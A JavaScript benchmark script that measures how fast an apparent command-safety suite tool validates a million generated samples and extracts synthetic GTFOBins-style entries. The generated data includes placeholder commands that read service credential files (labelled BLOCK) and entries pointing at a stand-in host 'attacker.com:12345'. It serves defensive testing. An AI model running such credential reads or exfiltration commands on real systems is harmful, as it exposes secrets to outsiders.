// Speed and memory of suites: a million samples loaded and validated, a whole GTFOBins extracted,
// and how fast `bash -n` is asked.
// usage: node perf/suites.mjs
import { execFileSync } from 'node:child_process'
import { once } from 'node:events'
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { inThrowAwayFolder } from './make-log.mjs'
import { say } from './say.mjs'

const worker = fileURLToPath(new URL('measure-command.mjs', import.meta.url))

await inThrowAwayFolder(async (folder) => {
  const million = join(folder, 'million.jsonl')
  await makeSamples(million, 1_000_000)
  const validated = measure('suite', 'validate', million, '--no-syntax')
  say(
    'validating a million samples',
    `${validated.seconds.toFixed(1)} s, ${validated.megabytes.toFixed(0)} MB at most`,
    'at most 10 s, 300 MB',
  )

  const repository = makeRepository(join(folder, 'repository'))
  for (const style of ['classic', 'varied']) {
    const out = join(folder, `${style}.jsonl`)
    const { seconds } = measure(
      ...[
        'suite',
        'extract',
        'gtfobins',
        '--from',
        repository,
        '--placeholders',
        style,
        '--out',
        out,
      ],
    )
    say(`extracting 480 files, ${style}`, `${seconds.toFixed(2)} s`, 'at most 2 s')
  }

  const small = join(folder, 'small.jsonl')
  await makeSamples(small, 2_500)
  const { seconds } = measure('suite', 'validate', small)
  say('2,500 samples through `bash -n`', `${seconds.toFixed(1)} s`)
})

/** Runs one command of the built package in a process of its own. */
function measure(...args) {
  return JSON.parse(execFileSync('node', [worker, ...args], { encoding: 'utf8' }))
}

/** Samples of both sides, all different; every tenth pair are twins. */
async function makeSamples(file, count) {
  const stream = createWriteStream(file)
  for (let i = 0; i < count; i += 2) {
    const number = String(i).padStart(8, '0')
    const [a, b] = [`tool_file-read_${number}`, `tool_harmless_${number}`]
    const malicious = {
      id: a,
      command: `tool${i % 500} --input /srv/app-${i}/credentials.json --verbose`,
      expect: 'BLOCK',
      category: 'file-read',
      binary: `tool${i % 500}`,
      rule: '4',
      why: 'reads a file that holds the credentials of the service',
    }
    const harmless = {
      id: b,
      command: `tool${i % 500} build --target out-${i} && ls -la out-${i}`,
      expect: 'ALLOW',
      binary: `tool${i % 500}`,
      rule: '13',
      why: 'builds the project and lists what came out',
    }
    if (i % 20 === 0) Object.assign(malicious, { twin: b }) && Object.assign(harmless, { twin: a })
    if (!stream.write(`${JSON.stringify(malicious)}\n${JSON.stringify(harmless)}\n`)) {
      await once(stream, 'drain')
    }
  }
  stream.end()
  await once(stream, 'close')
}

/** As many files and entries as the whole repository has, with entries of our own. */
function makeRepository(folder) {
  mkdirSync(join(folder, '_gtfobins'), { recursive: true })
  const categories = ['shell', 'file-read', 'file-write', 'sudo', 'upload', 'inherit', 'command']
  for (let i = 0; i < 480; i++) {
    const entries = categories
      .slice(i % 4, (i % 4) + 4)
      .map((category) =>
        [
          `  ${category}:`,
          '  - code: |-',
          `      tool${i} --${category} /path/to/input-file \\`,
          `        -o /path/to/output-file attacker.com:12345`,
          '    comment: |-',
          '      What the tool does here, in a sentence or two, as the entries of the source have it.',
          '    contexts:',
          '      sudo:',
          '      suid:',
          '      unprivileged:',
        ].join('\n'),
      )
    writeFileSync(
      join(folder, '_gtfobins', `tool${i}`),
      `---\nfunctions:\n${entries.join('\n')}\n...\n`,
    )
  }
  return folder
}
